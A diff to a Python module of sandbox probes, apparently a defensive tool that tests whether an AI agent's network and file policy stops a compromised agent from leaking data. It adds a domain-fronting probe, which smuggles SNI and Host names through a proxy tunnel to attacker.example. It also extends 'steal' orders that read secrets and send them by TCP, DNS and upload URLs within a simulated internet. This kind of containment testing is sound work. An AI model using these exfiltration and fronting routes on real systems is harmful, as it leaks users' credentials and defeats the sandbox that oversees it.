@@ -19,7 +19,7 @@ The scope scan (``scan_orders``) lives here too: the same kind of orders,
 trying every world path and host instead of a sample, with its markers in
 ``Markers`` beside the probes'; ``verdicts.measure_scope`` judges it.
 
-Pure. Imports: access, channels, evidence, outcomes, scope, world. Nothing downstream.
+Pure. Imports: access, channels, domains, evidence, outcomes, scope, world. Nothing downstream.
 """
 
 from __future__ import annotations
@@ -28,7 +28,8 @@ from dataclasses import dataclass
 from typing import Any, Callable, Literal, Optional
 
 from .access import Access
-from .channels import channels
+from .channels import channels, unknown_name_why
+from .domains import matches
 from .evidence import (
     Evidence,
     Markers,
@@ -51,7 +52,7 @@ from .world import World
 __all__ = ["PROBES", "SCAN_WIDTH", "OrderContext", "Probe", "ProbeKind", "Step", "orders_for", "probe", "scan_orders"]
 
 Action = Literal["read", "write", "net", "exfil", "fetch"]
-Step = dict[str, Any]  # one order for the runner: {"op": "read" | "write" | "http" | "tcp" | "tcp_gateways" | "dns" | "steal", ...}
+Step = dict[str, Any]  # one order for the runner: {"op": "read" | "write" | "http" | "tcp" | "tcp_gateways" | "dns" | "steal" | "front", ...}
 # How many of one scan entry's steps the runner carries out at once: enough to hide
 # the network's round trips, few enough that the scan's threads stay far below
 # the sandbox's pids limit next to the probes' own.
@@ -71,6 +72,8 @@ class OrderContext:
     hosts: tuple[str, ...]  # every host of the simulated internet
     loot: tuple[str, ...]  # the world paths an attacker steals (secrets and credentials)
     rebase: Callable[[str], str] = str  # world path → the path the runner opens (srt runs on a world copy)
+    allowed: tuple[str, ...] = ()  # the policy's allowedDomains entries: every one is tried as a way out
+    uploads: tuple[str, ...] = ()  # the world's hosts that store uploads (the attacker's aside)
 
 
 @dataclass(frozen=True)
@@ -101,7 +104,14 @@ def _rule_text(rule: Optional[tuple[str, str]]) -> str:
 
 
 def _upload_hosts(access: Access) -> list[str]:
-    return [h.name for h in access.world.hosts if h.uploads and access.reach(h.name).allowed]
+    """Every reachable host that stores uploads, and every allowed name the attacker owns or may own."""
+    return [c.host for c in channels(access) if c.kind == "upload"]
+
+
+def _allowed_names(ctx: OrderContext, label: str) -> list[str]:
+    """Every allowed exact name, and a name of this run's own under every allowed wildcard: all tried as targets."""
+    m = ctx.markers
+    return [m.fresh_under(a[2:], label) if a.startswith("*.") else a for a in ctx.allowed]
 
 
 _NO_NETWORK_FIX = (
@@ -338,7 +348,7 @@ def _gateway_judge(p: Probe, ev: Evidence, world: World) -> Verdict:
 
 def _upload_orders(p: Probe, ctx: OrderContext) -> list[Step]:
     m = ctx.markers
-    hosts = list(ctx.hosts) + [m.fresh_host("up")]
+    hosts = list(dict.fromkeys([*ctx.hosts, *_allowed_names(ctx, "up"), m.fresh_host("up")]))
     return [{"op": "http", "method": "POST", "url": f"https://{h}{m.upload_path}", "body": m.upload_body} for h in hosts]
 
 
@@ -360,7 +370,8 @@ def _upload_judge(p: Probe, ev: Evidence, world: World) -> Verdict:
 
 def _upload_fix(p: Probe, access: Access) -> str:
     return (
-        f"remove the hosts that accept uploads ({', '.join(_upload_hosts(access)) or 'none'}) from network.allowedDomains; "
+        f"remove the hosts that accept uploads, and every name the world does not know ({', '.join(_upload_hosts(access)) or 'none'}), "
+        "from network.allowedDomains; "
         'list exact host names, since a "*." wildcard also reaches upload hosts such as gist.github.com'
     )
 
@@ -378,7 +389,7 @@ def _steal_orders(p: Probe, ctx: OrderContext) -> list[Step]:
             "op": "steal", "path": ctx.rebase(path),
             "tcp": {"host": ctx.attacker_ip, "port": ctx.tcp_port, "prefix": tag + "\n"},
             "dns_suffix": m.steal_dns_suffix(label),
-            "urls": [f"https://{h}/upload/{tag}" for h in list(ctx.hosts) + [m.fresh_host(label)]],
+            "urls": [f"https://{h}/upload/{tag}" for h in dict.fromkeys([*ctx.hosts, *_allowed_names(ctx, label), m.fresh_host(label)])],
         })
     return steps
 
@@ -390,7 +401,9 @@ def _steal_predict(p: Probe, access: Access) -> Prediction:
     if readable and chans:
         s, c = readable[0], chans[0]
         what = s.label.split(" (")[0]
-        if c.kind == "upload":
+        if c.kind == "upload" and c.host not in world.host_names:
+            how = f"and reach {c.host}, which counts as the attacker's own server: a compromised agent can send your {what} there"
+        elif c.kind == "upload":
             how = f"and reach {c.host}, which accepts uploads: a compromised agent can send your {what} there"
         elif c.kind == "dns":
             how = f"and its DNS queries reach the attacker's nameserver: a compromised agent can spell your {what} into query names"
@@ -427,7 +440,111 @@ def _steal_fix(p: Probe, access: Access) -> str:
         "cut one side of the path: make the secrets unreadable ("
         + ", ".join(readable)
         + ') with filesystem.denyRead or a narrow filesystem.allowRead, or remove every host that accepts uploads '
-        f"({', '.join(_upload_hosts(access)) or 'none'}) from network.allowedDomains"
+        f"or that the world does not know ({', '.join(_upload_hosts(access)) or 'none'}) from network.allowedDomains"
+    )
+
+
+# --- another host's name inside an allowed host's tunnel (domain fronting) --------------------
+
+_FRESH = "x0fresh0x"  # stands for any label the agent invents under a wildcard (as in access.py)
+_FRONTING = (
+    "Behind a CDN that serves many sites at one address, this trick (domain fronting) reaches any site of that "
+    "CDN, and a proxy that decides by host name cannot stop it: it never sees inside TLS. "
+    "The simulated internet has no such shared front."
+)
+
+
+def _front_targets(ctx: OrderContext) -> list[str]:
+    """Where fronted data is aimed: the attacker (a name of this run's own, and the apex) and every upload host."""
+    m = ctx.markers
+    return list(dict.fromkeys([m.fresh_host("front"), m.attacker, *ctx.uploads]))
+
+
+def _front_orders(p: Probe, ctx: OrderContext) -> list[Step]:
+    m = ctx.markers
+    targets = _front_targets(ctx)
+    download_only = [h for h in ctx.hosts if h not in ctx.uploads and h != m.attacker]
+    # every allowed name, and every world host an allowed wildcard matches: real servers to tunnel to
+    matched = [h for a in ctx.allowed if a.startswith("*.") for h in ctx.hosts if matches(a, h)]
+    fronts = [*_allowed_names(ctx, "fr"), *matched] or download_only[:1]
+    # first the proxy's own decision on every target, so its log says which of them it refuses
+    steps: list[Step] = [{"op": "front", "connect": t, "port": 443, "attempts": []} for t in targets]
+    for front in dict.fromkeys(fronts):
+        attempts = [a for t in targets if t != front for a in ({"sni": t, "host": t}, {"sni": front, "host": t})]
+        steps.append({"op": "front", "connect": front, "port": 443, "attempts": attempts,
+                      "request_path": m.front_path, "body": m.front_body})
+    return steps
+
+
+def _fronts(access: Access) -> list[tuple[str, str]]:
+    """(entry, name) for every name the agent can open a tunnel to: an allowed exact name, or a made-up name
+    under an allowed wildcard; only names some server answers for."""
+    assert access.policy is not None
+    out = [(a, f"{_FRESH}.{a[2:]}" if a.startswith("*.") else a) for a in access.policy.network.allowedDomains]
+    out += [(a, h) for a in access.policy.network.allowedDomains if a.startswith("*.") for h in access.world.host_names if matches(a, h)]
+    return [(a, n) for a, n in dict.fromkeys(out) if access.reach(n).allowed and access.world.server_of(n) is not None]
+
+
+def _front_predict(p: Probe, access: Access) -> Prediction:
+    world = access.world
+    if access.network == "open":
+        return True, "Ordinary networking: no proxy decides anything by name, and every host is reachable directly anyway."
+    if access.network == "none":
+        return False, "The sandbox has no network at all (allowedDomains is empty)."
+    attacker = world.attacker.name
+    targets = [f"{_FRESH}.{attacker}", attacker, *(h.name for h in world.hosts if h.uploads and not h.attacker)]
+    fronts = _fronts(access)
+    for entry, front in fronts:
+        for t in targets:
+            if t != front and world.server_of(t) == world.server_of(front) and not access.reach(t).allowed:
+                shown = "a name under " + attacker if t.startswith(_FRESH) else t
+                return True, (
+                    f"A tunnel to {entry} reaches the attacker's server ({unknown_name_why(access, entry)}), and that server "
+                    f"answers for the attacker's other names: data named for {shown}, which the proxy refuses, arrives all the same."
+                )
+    names = list(dict.fromkeys(n for _, n in fronts))
+    opened = (", ".join(names[:4]) + (f" and {len(names) - 4} more" if len(names) > 4 else "")) or "no host that answers"
+    return False, (
+        f"The proxy opens a tunnel only to a host it allows ({opened}), and that host's server answers only for its own "
+        f"names: another name inside the tunnel (TLS SNI or HTTP Host) is refused. {_FRONTING}"
+    )
+
+
+def _front_judge(p: Probe, ev: Evidence, world: World) -> Verdict:
+    m = Markers(ev.token, world.attacker.name)
+    let_through = {str(r.get("host")) for r in ev.proxy if r.get("decision") == "allow"}
+    arrived = http_hits(ev, lambda r: m.front_path in str(r.get("path", "")) and not r.get("misdirected"))
+    smuggled = [r for r in arrived if str(r.get("host")) not in let_through]
+    if smuggled:
+        hosts = ", ".join(sorted({str(r["host"]) for r in smuggled}))
+        return "succeeded", f"Data reached {hosts}, which the proxy never let through.", tuple(
+            f"{r['host']} received {r['method']} {r['path']} "
+            + (f"inside the tunnel the proxy opened to {r['via']}" if r.get("via") else "over a connection no proxy decided")
+            for r in smuggled[:4]
+        )
+    outcome = net_blocked(p.id, ev, "Every name smuggled into another host's tunnel")
+    if outcome[0] != "blocked" or ev.network == "none":
+        return outcome
+    tries = [r for r in attempts(ev, p.id) if r.step == "front" and ">" in str(r.target)]
+    late = [r.detail for r in tries if not r.ok and "timed out" in r.detail.lower()]
+    if late:  # a refusal is fast; silence that ran out of time proves nothing
+        return "error", f"Cannot tell: a fronted request timed out before any answer ({late[0]}). Rerun.", ()
+    refused = [r for r in ev.http if r.get("misdirected") and m.front_path in str(r.get("path", ""))]
+    opened = sorted({str(r.get("host")) for r in ev.proxy if r.get("decision") == "allow" and str(r.get("method", "")).upper() == "CONNECT"})
+    return "blocked", "Nothing named inside another host's tunnel arrived anywhere the proxy refused.", (
+        f"the proxy opened tunnels to {', '.join(opened) or 'no host'}; inside them {len(tries)} request(s) named another "
+        f"host, the servers refused {len(refused)} of them outright (421 Misdirected Request) and the rest at the TLS "
+        "handshake; nothing carrying the run's token reached a host the proxy did not let through",
+    )
+
+
+def _front_fix(p: Probe, access: Access) -> str:
+    if access.network == "open":
+        return _fix_network(p, access)
+    owned = [a for a in access.policy.network.allowedDomains if access.world.attacker_owns(f"{_FRESH}.{a[2:]}" if a.startswith("*.") else a)] if access.policy else []
+    return (
+        f"remove {', '.join(owned) or 'every name the world does not know'} from network.allowedDomains: "
+        "a tunnel to a name the attacker owns reaches a server that answers for any of the attacker's names"
     )
 
 
@@ -467,6 +584,10 @@ PROBES: tuple[Probe, ...] = (
           _attacker_orders, _attacker_predict, _attacker_judge, _attacker_fix),
     Probe("net-host-gateway", "attack", "net", "Reach a service listening on the machine that runs the sandbox (the host, via its gateway).",
           _gateway_orders, _gateway_predict, _gateway_judge, _fix_network),
+    Probe("net-domain-fronting", "attack", "net",
+          "Open a tunnel through the proxy to an allowed host, then name another inside it (TLS SNI and HTTP Host of an "
+          "upload host or attacker.example), hoping the allowed host's server delivers to the other: domain fronting.",
+          _front_orders, _front_predict, _front_judge, _front_fix),
     Probe("exfil-via-allowed-domain", "attack", "exfil", "Upload data to any reachable host that accepts uploads, such as a public gist or a published package.",
           _upload_orders, _upload_predict, _upload_judge, _upload_fix),
     Probe("exfil-secret", "attack", "exfil", "Read every secret it can and send each over every channel out it can find.",
